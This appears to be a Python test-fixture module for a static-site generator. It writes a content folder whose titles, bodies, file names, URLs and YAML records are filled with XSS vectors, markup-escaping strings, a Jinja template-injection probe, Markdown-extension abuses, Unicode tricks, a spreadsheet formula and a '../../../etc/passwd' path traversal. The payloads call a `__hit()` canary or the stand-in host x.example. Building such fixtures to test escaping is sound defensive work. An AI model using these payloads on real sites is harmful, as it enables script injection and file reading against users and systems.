"""Hostile text for every place where people write text, and a content folder made of it.

What would run calls `__hit`, goes elsewhere, or asks x.example. To add a vector, add a line: it becomes a title, a
body, a name and every other field by itself.
"""

import shutil
from pathlib import Path

from hostile_families import families

from generator.markup import yaml_scalar

WRITTEN = (
    # elements that run, load, cover or redirect
    "<script>__hit()</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<script type=module>import '//x.example/m.js'</script>",
    "<scr<script>ipt>__hit()</scr</script>ipt>",
    "<img src=x onerror=__hit()>",
    "<img/src/onerror=__hit()//",
    "<<img src=x onerror=__hit()>",
    "<img src=//x.example/pixel.png>",
    '<img srcset="//x.example/1.png 1x">',
    "<svg onload=__hit()>",
    "<svg/onload=__hit()>",
    "<svg><script>__hit()</script></svg>",
    '<svg><a xlink:href="javascript:__hit()"><text y=9>t</text></a></svg>',
    "<svg><animate onbegin=__hit() attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=__hit()></style></svg>",
    '<math><a xlink:href="javascript:__hit()">m</a></math>',
    "<details open ontoggle=__hit()>x</details>",
    "<input autofocus onfocus=__hit()>",
    "<x contenteditable tabindex=0 autofocus onfocus=__hit()>",
    "<body onload=__hit()>",
    "<marquee onstart=__hit()>m</marquee>",
    "<video src=//x.example/v onerror=__hit()></video>",
    "<audio src onerror=__hit()>",
    '<button formaction="javascript:__hit()">b</button>',
    '<form action="javascript:__hit()"><input type=submit></form>',
    '<iframe srcdoc="<script>parent.__hit()</script>"></iframe>',
    '<iframe src="javascript:parent.__hit()"></iframe>',
    '<object data="//x.example/o"></object>',
    '<embed src="//x.example/e">',
    "<style>@import '//x.example/s.css';</style>",
    "<link rel=stylesheet href=//x.example/s.css>",
    "<base href=//x.example/>",
    '<meta http-equiv=refresh content="0;url=//x.example/">',
    '<p style="position:fixed;inset:0;background:url(//x.example/p)">p</p>',
    '<noscript><p title="</noscript><img src=x onerror=__hit()>">',
    "<template><script>__hit()</script></template>",
    '<a href="javascript:__hit()">link</a>',
    '<a href="java&#x09;script:__hit()">link</a>',
    "<a href=javascript&colon;__hit()>link</a>",
    # what ends the context it stands in
    "</title><script>__hit()</script>",
    "</script><script>__hit()</script>",
    "</textarea></style></noscript><img src=x onerror=__hit()>",
    "</dd></dl></div></article></main><script>__hit()</script>",
    "</h1></body></html><script>__hit()</script>",
    ']]></content><script xmlns="http://www.w3.org/1999/xhtml">__hit()</script>',
    "<!--",
    "<!-- --!><img src=x onerror=__hit()>",
    "--><script>__hit()</script>",
    "<![CDATA[<img src=x onerror=__hit()>]]>",
    "<?php __hit() ?><script>__hit()</script>",
    "<!x <script>__hit()</script>",
    '"><img src=x onerror=__hit()>',
    "'><img src=x onerror=__hit()>",
    '" onmouseover="__hit()" x="',
    "' onmouseover='__hit()' x='",
    "` onmouseover=__hit() `",
    '\\" onmouseover=__hit() \\"',
    "x onfocus=__hit() autofocus tabindex=0",
    # text that is dangerous once it is decoded
    "&lt;script&gt;__hit()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;__hit()&amp;lt;/script&amp;gt;",
    "&quot; onmouseover=&quot;__hit()",
    "&#34;&#62;&#60;img src=x onerror=__hit()&#62;",
    "\\u003cscript\\u003e__hit()\\u003c/script\\u003e",
    "%3Cscript%3E__hit()%3C/script%3E",
    "＜script＞__hit()＜/script＞",
    "+ADw-script+AD4-__hit()+ADw-/script+AD4-",
    # templates
    "{{ 7*7 }}",
    "{% raw %}{{ config.site_name }}{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{%- include 'main.html' -%}{# comment #}",
    "${7*7} #{7*7} <%= 7*7 %> [[${7*7}]]",
    # Markdown and what its extensions add
    "[x](javascript:__hit())",
    "[x](JaVa&Tab;ScRiPt:__hit()) ![x](javascript:__hit())",
    "[x](data:text/html,<script>__hit()</script>)",
    '[x](//x.example/ "t") [y]: //x.example/',
    "[x]: javascript:__hit()",
    "![x](https://x.example/i.png)",
    "<javascript:__hit()>",
    '<https://x.example/?"onmouseover=__hit()>',
    "https://x.example/<script>__hit()</script>",
    "{ onclick=__hit() }",
    "{: onmouseover=__hit() style=position:fixed }",
    "x { #content .md-search onclick=__hit() }",
    '--8<-- "mkdocs.yml"',
    "title: x",
    "--- title: x ---",
    "# heading { onclick=__hit() }",
    "=====",
    "* * *",
    "1. <img src=x onerror=__hit()>",
    "- [ ] <input autofocus onfocus=__hit()>",
    "> <script>__hit()</script>",
    "\\<script>__hit()</script>",
    "| a | <img src=x onerror=__hit()> |",
    "`<img src=x onerror=__hit()>` and ``unclosed",
    '``` html title="<img src=x onerror=__hit()>"',
    "~~~",
    "*[x]: <img src=x onerror=__hit()>",
    "[^1]: <img src=x onerror=__hit()>",
    '!!! note "<img src=x onerror=__hit()>"',
    ":smile: ++ctrl++ ==x== ^^x^^ {++x++} $x$ \\(x\\)",
    # characters and lengths
    "\u202e<script>__hit()</script>\u202c",
    "\u2066gnp.\u2069 \u200b\u200d <b>x</b>",
    "\x00<scr\x00ipt>__hit()</script>\x7f\x9b",
    "\u2028<script>__hit()</script>\u2029",
    "e\u0301 İ ı ß ﬁ Ǆ <i>",
    "ﾟ･✿ ﾞ <b>ﾟ</b>",
    "<" * 200,
    "[" * 200,
    "W" * 2000,
    # words that programs take for their own
    "__proto__",
    "constructor",
    '=HYPERLINK("javascript:__hit()")',
    "null",
    "../../../etc/passwd",
)

VECTORS = (*WRITTEN, *families())

BODIES = (
    "title: x\nsubtitle: <script>__hit()</script>\n\nA paragraph.",
    "---\ntitle: <script>__hit()</script>\n---\n\nA paragraph.",
    "<script>__hit()</script>\n===\n\n<img src=x onerror=__hit()>\n---\n\nText { onclick=__hit() }",
    "# One {#content}\n\n# Two {: onmouseover=__hit() }\n\n####### Seven\n\nText",
    "``` {.js onclick=__hit()}\n<script>__hit()</script>\n\n<img src=x onerror=__hit()>",
    '~~~mermaid\ngraph LR; A["<img src=x onerror=__hit()>"]\n~~~\n\nText',
    "    <script>__hit()</script>\n\n\t<img src=x onerror=__hit()>\n\nText",
    "<div markdown=1>\n\n**bold** <img src=x onerror=__hit()>\n\n</div>\n\n</dl></div></article>\n\nText",
    "| a | b |\n| - | - |\n| <img src=x onerror=__hit()> | [x](javascript:__hit()) |\n\nText",
    '[a][1] and [b][2]\n\n[1]: javascript:__hit() "t"\n[2]: https://x.example/"onclick=__hit() \'x\'\n\nText',
    "> > > - 1. <script>__hit()</script>\n\n- a\n    - b\n        - c\n            - <img src=x onerror=__hit()>\n",
    'Term\n:   <img src=x onerror=__hit()>\n\n*[Term]: "><img src=x onerror=__hit()>\n\nTerm[^1]\n\n[^1]: <svg onload=__hit()>',  # noqa: E501 (one text)
    "<!--\n\n<script>__hit()</script>\n\n-->\n\nText\n\n<![CDATA[\n\n]]>",
    '--8<-- "mkdocs.yml"\n\n--8<--\nmkdocs.yml\n--8<--\n\n;--8<-- "x"\n\n{% include \'main.html\' %}',
    '!!! note "<img src=x onerror=__hit()>"\n    <script>__hit()</script>\n\n=== "<svg onload=__hit()>"\n    x',
    '**bold *and [good](https://good.example/?a=1&b="2") <b>link</b>* ** _x_ `code <i>` \\* &copy; &#60;',
)

FILES = (
    ("<img src=x onerror=__hit()>.md", "---\ntitle: A file whose name is no id\n---\nText\n"),
    ("bad-key.md", '---\ntitle: x\n"<script>__hit()</script>": 1\n---\nText\n'),
    ("bad-url.md", "---\ntitle: x\nsource:\n  url: javascript:__hit()\n---\nText\n"),
    ("bad-archive.md", "---\ntitle: x\nsource:\n  archive_url: 'data:text/html,<script>__hit()</script>'\n---\nText\n"),
    ("bad-language.md", "---\ntitle: x\nlanguage: '\"><script>__hit()</script>'\n---\nText\n"),
)
"""Files that cannot be published; what is wrong with them is told on a page."""

URLS = (
    'https://x.example/"><script>__hit()</script>',
    "https://x.example/' onmouseover='__hit()",
    "HTTPS://x.example/{{7*7}}?<img src=x onerror=__hit()>#`{ onclick=__hit() }",
)

_KINDS = ("person", "topic", "organisation", "outlet", "group", "country", "place", "event", "work", "programme")
_CODES = ("tv", "nr", "ki", "pw", "mh", "fm", "to", "ws", "sb", "vu", "sc", "km", "st", "kn", "lc")
_TOGETHER = 5
_LONGEST_KEY = 500
"""YAML has a limit of 1,024 characters for keys."""


def names() -> list[tuple[str, str, tuple[str, ...]]]:
    """Give the records of the folder: id, kind, and the vectors of which label and aliases are made."""
    made = []
    codes = iter(_CODES)
    for number, first in enumerate(range(0, len(VECTORS), _TOGETHER)):
        kind = _KINDS[number % len(_KINDS)]
        key = next(codes, None) if kind == "country" else f"name-{number}"
        if key is None:  # there are no more countries without articles of their own
            kind, key = "person", f"name-{number}"
        made.append((key, kind, VECTORS[first : first + _TOGETHER]))
    return made


def label(vectors: tuple[str, ...]) -> str:
    """Give the label of a record that is made of some vectors."""
    return " ".join(vectors)


def body(vector: str) -> str:
    """Give a body that has a vector wherever CommonMark lets text stand."""
    return (
        f"{vector}\n\nIn a sentence stands {vector} and goes on. **{vector}** and [{vector}](https://good.example/).\n\n"
        f"> {vector}\n\n- {vector}\n    - {vector}\n\n## {vector}\n\n```\n{vector}\n```\n\n"
        f"“{vector},” said {vector}.\n\n"
    )


def articles() -> dict[str, tuple[str, str]]:
    """Give title and body of every article that must be published, by id; a title is made of three vectors."""
    third = -(-len(VECTORS) // 3)
    made = {}
    for number in range(third):
        some = VECTORS[number::third]
        made[f"vector-{number}"] = (label(some), "".join(map(body, some)))
    return made | {f"body-{number}": (f"Body {number}", text) for number, text in enumerate(BODIES)}


def fields(vector: str) -> dict[str, str]:
    """Give the values of an article's fields that hold free text, by the name of the field."""
    texts = ("headline", "dateline", "standfirst", "document")
    return {name: f"{vector} {name}" for name in texts} | {"author": vector, "caption": f"{vector} caption"}


def write(folder: Path) -> None:
    """Write the content folder."""
    shutil.rmtree(folder, ignore_errors=True)
    for part in ("articles/undated", "authorities", "pages"):
        (folder / part).mkdir(parents=True)
    records = names()
    for number, (key, (title, text)) in enumerate(articles().items()):
        record = records[number % len(records)]
        _write(folder / f"articles/undated/{key}.md", _front(title, record, URLS[number % len(URLS)]) + text)
    for name, text in FILES:
        _write(folder / "articles/undated" / name, text)
    for name in ("home", "about", "more"):
        _write(folder / f"pages/{name}.md", f"---\ntitle: {yaml_scalar(VECTORS[0])}\n---\n" + "\n\n".join(VECTORS))
    _write(folder / "authorities/all.yml", "".join(_record(*record) for record in records))


def _front(title: str, record: tuple[str, str, tuple[str, ...]], url: str) -> str:
    key, kind, _ = record
    asserted = {"topic": "topics", "country": "countries"}.get(kind, "entities")
    values = fields(title)
    return (
        f"---\ntitle: {yaml_scalar(title)}\ndate_evidence: {yaml_scalar(title)}\n{asserted}: [{key}]\n"
        f"rights: full\nsource:\n  headline: {yaml_scalar(values['headline'])}\n"
        f"  dateline: {yaml_scalar(values['dateline'])}\n  standfirst: {yaml_scalar(values['standfirst'])}\n"
        f"  document: {yaml_scalar(values['document'])}\n  url: {yaml_scalar(url)}\n  archive_url: {yaml_scalar(url)}\n"
        f"  authors: [{yaml_scalar(values['author'])}]\n  captions: [{yaml_scalar(values['caption'])}]\n"
        f"{f'  outlet: {key}' if kind == 'outlet' else ''}\n---\n"
    )


def _record(key: str, kind: str, vectors: tuple[str, ...]) -> str:
    aliases = "".join(f"\n    - {yaml_scalar(vector)}" for vector in vectors)
    terms = "".join(f"\n    {yaml_scalar(vector[:_LONGEST_KEY])}: 1" for vector in vectors)
    topic = f"  definition: {yaml_scalar(label(vectors))}\n  terms:{terms}\n" if kind == "topic" else ""
    return (
        f"- id: {key}\n  kind: {kind}\n  label: {yaml_scalar(label(vectors))}\n  aliases:{aliases}\n"
        f"  description: {yaml_scalar('About ' + label(vectors))}\n"
        f"  same_as:\n    {yaml_scalar(vectors[0][:_LONGEST_KEY])}: {yaml_scalar(vectors[-1])}\n{topic}"
    )


def _write(path: Path, text: str) -> None:
    path.write_text(text, encoding="utf-8", newline="")
